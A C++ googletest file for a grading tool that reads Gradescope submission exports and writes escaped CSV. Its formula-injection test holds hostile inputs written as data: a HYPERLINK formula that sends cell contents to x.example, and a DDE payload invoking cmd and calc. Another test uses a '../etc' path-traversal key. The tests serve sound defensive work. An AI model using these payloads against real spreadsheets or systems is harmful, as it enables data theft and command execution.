// Gradescope's "Export Submissions" read by `rt-grade batch` (cmd/gradescope_export.h).
#include "cmd/gradescope_export.h"

#include <gtest/gtest.h>

#include <fstream>

#include "cmd/batch_input.h"
#include "util.h"

namespace rt::grader {
namespace {

namespace fs = std::filesystem;

// A folder of this test's own: CTest runs the tests of this file as processes side by side.
fs::path own_folder(const std::string& what) {
    return fs::path(::testing::TempDir()) /
           (what + "-" + ::testing::UnitTest::GetInstance()->current_test_info()->name());
}

// An export as Gradescope lays it out, inside a wrapping folder as its zip unpacks.
fs::path make_export(const std::string& metadata) {
    const fs::path top = own_folder("export-test");
    fs::remove_all(top);
    const fs::path root = top / "assignment_77_export";
    for (const char* folder : {"submission_1", "submission_2", "submission_3"})
        fs::create_directories(root / folder);
    std::ofstream(root / "submission_metadata.yml") << metadata;
    return top;
}

const char* const kMetadata = R"(submission_2:
  :submitters:
  - :name: Ada Lovelace
    :sid: '1815'
    :email: ada@example.com
  :created_at: 2026-12-02 10:00:00.000000000 -0800
  :score: 40.0
submission_1:
  :submitters:
  - :name: Ada Lovelace
    :sid: '1815'
    :email: ada@example.com
  :created_at: 2026-12-01 09:30:00.123456000 -0800
  :score: 12.5
submission_3:
  :submitters:
  - :name: Grace Hopper
    :sid: '1906'
    :email: grace@example.com
  - :name: Alan Turing
    :sid: '1912'
    :email: alan@example.com
  :created_at: 2026-12-02T08:00:00Z
  :score:
submission_gone:
  :submitters:
  - :name: Nobody
  :created_at: 2026-12-02T08:00:00Z
)";

TEST(GradescopeExport, ReadsSubmittersTimesAndScoresOldestFirst) {
    const fs::path top = make_export(kMetadata);
    const auto root = export_root(top);
    ASSERT_TRUE(root);
    const auto all = read_gradescope_export(*root);
    ASSERT_EQ(all.size(), 3u) << "submission_gone has no folder";
    EXPECT_EQ(all[0].folder, "submission_1");
    EXPECT_EQ(all[0].names, "Ada Lovelace");
    EXPECT_EQ(all[0].sids, "1815");
    EXPECT_EQ(all[0].old_score, 12.5);
    EXPECT_EQ(all[1].folder, "submission_3");  // 08:00 UTC, before submission_2's 18:00 UTC
    EXPECT_EQ(all[1].names, "Grace Hopper; Alan Turing");
    EXPECT_FALSE(all[1].old_score) << "an empty :score: is no score";
    EXPECT_EQ(all[2].folder, "submission_2");
}

TEST(GradescopeExport, LatestPerStudentKeepsEachStudentsNewest) {
    const auto all = read_gradescope_export(*export_root(make_export(kMetadata)));
    const auto latest = latest_per_student(all);
    ASSERT_EQ(latest.size(), 2u);
    EXPECT_EQ(latest[0].folder, "submission_3");
    EXPECT_EQ(latest[1].folder, "submission_2");
}

TEST(GradescopeExport, BatchInputNamesTheStudentsAndTheChange) {
    const BatchInput in = batch_input(make_export(kMetadata), false);
    ASSERT_TRUE(in.is_export);
    ASSERT_EQ(in.entries.size(), 3u);
    EXPECT_EQ(export_identity(in.entries[0]), R"(,"Ada Lovelace","1815","ada@example.com")");
    EXPECT_EQ(export_change(in.entries[0], 20), ",12.5,7.5");
    EXPECT_EQ(export_change(in.entries[2], 20), ",,") << "no old score";
}

TEST(GradescopeExport, APlainFolderIsNotAnExport) {
    const fs::path dir = own_folder("plain-batch");
    fs::remove_all(dir);
    fs::create_directories(dir / "alice");
    fs::create_directories(dir / "bob");
    EXPECT_FALSE(export_root(dir));
    const BatchInput in = batch_input(dir, false);
    EXPECT_FALSE(in.is_export);
    ASSERT_EQ(in.entries.size(), 2u);
    EXPECT_EQ(in.entries[0].name, "alice");
}

TEST(GradescopeExport, MistakesNameTheFileAndTheSubmission) {
    for (const char* bad : {"submission_1:\n  :created_at: 2026-12-01T00:00:00Z\n",
                            "submission_1:\n  :submitters:\n  - :name: A\n  :created_at: soon\n",
                            "../etc:\n  :submitters:\n  - :name: A\n", "- a\n- b\n", "a: [b\n"}) {
        const fs::path top = make_export(bad);
        try {
            read_gradescope_export(*export_root(top));
            ADD_FAILURE() << "accepted: " << bad;
        } catch (const std::runtime_error& e) {
            EXPECT_NE(std::string(e.what()).find("submission_metadata.yml: "), std::string::npos)
                << e.what();
        }
    }
}

// The cells of one CSV line (quoted cells with doubled quotes, as csv_cell writes them).
std::vector<std::string> csv_cells(const std::string& line) {
    std::vector<std::string> cells(1);
    bool quoted = false;
    for (std::size_t i = 0; i < line.size(); ++i) {
        const char c = line[i];
        if (c == '"' && quoted && i + 1 < line.size() && line[i + 1] == '"')
            cells.back() += line[++i];
        else if (c == '"')
            quoted = !quoted;
        else if (c == ',' && !quoted)
            cells.emplace_back();
        else
            cells.back() += c;
    }
    return cells;
}

// Students choose their names, ids and e-mails. A cell a spreadsheet would run as a formula
// (OWASP: a first character of = + - @, tab or carriage return) must never reach scores.csv or
// changes.csv: each such cell starts with ' and is text. No spreadsheet is opened; every cell is
// read back and checked.
TEST(GradescopeExport, NoCellAStudentWritesIsAFormula) {
    const std::string metadata = R"(submission_1:
  :submitters:
  - :name: '=HYPERLINK("http://x.example/?leak="&A1,"click")'
    :sid: '@SUM(1+1)*cmd|'' /C calc''!A0'
    :email: '-2+3@example.com'
  :created_at: 2026-12-01 09:30:00.000000000 -0800
  :score: 1.0
submission_2:
  :submitters:
  - :name: "+1-555-0100"
    :sid: "\t=1+1"
    :email: "\r=1+1@example.com"
  :created_at: 2026-12-01 09:31:00.000000000 -0800
  :score: 2.0
)";
    const BatchInput in = batch_input(make_export(metadata), false);
    ASSERT_EQ(in.entries.size(), 2u);
    int checked = 0;
    for (const BatchEntry& e : in.entries)
        for (const std::string& line : {export_identity(e), export_change(e, 3)})
            for (const std::string& cell : csv_cells(line)) {
                ++checked;
                if (cell.empty()) continue;
                EXPECT_EQ(std::string("=+-@\t\r").find(cell[0]), std::string::npos)
                    << "a formula cell: " << cell << " in " << line;
            }
    EXPECT_GE(checked, 12);
    EXPECT_EQ(csv_cell("=1+1"), "\"'=1+1\"");
    EXPECT_EQ(csv_cell("Ada \"the\" Byron"), "\"Ada \"\"the\"\" Byron\"");
    EXPECT_EQ(csv_cell("-2.5"), "\"'-2.5\"") << "a student's text, even a number, is text";
}

}  // namespace
}  // namespace rt::grader
